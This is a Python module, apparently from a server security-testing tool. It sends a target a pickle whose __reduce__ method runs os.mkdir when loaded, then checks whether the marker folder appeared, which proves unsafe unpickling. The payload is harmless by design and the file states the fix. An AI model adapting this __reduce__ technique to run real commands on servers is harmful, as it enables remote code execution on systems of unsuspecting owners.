"""A pickle that runs code where it is loaded.  The code does one harmless thing: it makes an empty folder."""

from __future__ import annotations

import os
import pickle
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, ClassVar, Final

from .attack import Attack
from .moves import Attacker, Say, Wave
from .speech import Speech
from .target import Target

__all__ = ["Pickle"]

_MARK: Final = "a stranger was here"


@dataclass(frozen=True)
class Pickle(Attack):
    """A question that is a pickle; whoever loads it makes a folder within a temporary folder of ours."""

    does: ClassVar[str] = "somebody sent a pickle"
    cure: ClassVar[str] = "Never unpickle what a stranger sent: use JSON, or struct."

    def skipped(self, speech: Speech) -> str:
        """It needs to know how bytes become a question."""
        return "" if speech.pickled else "No pickle is a question here: the speech has no `pickled`."

    def waves(self, target: Target) -> Iterator[Wave]:
        """One client, one question."""
        assert target.speech.pickled is not None  # else it is skipped
        yield Wave(Attacker((Say(target.speech.pickled(_payload(str(target.folder / _MARK)))),)))

    def got(self, found: int, target: Target, printed: str) -> str:  # noqa: ARG002  the shape of the others
        """Whether the code was run."""
        if not (target.folder / _MARK).is_dir():
            return ""
        return "Code of a stranger ran in your server: it could have been any code."


class _MakesAFolder:
    def __init__(self, path: str) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self._path,)


def _payload(path: str) -> bytes:
    return pickle.dumps(_MakesAFolder(path))
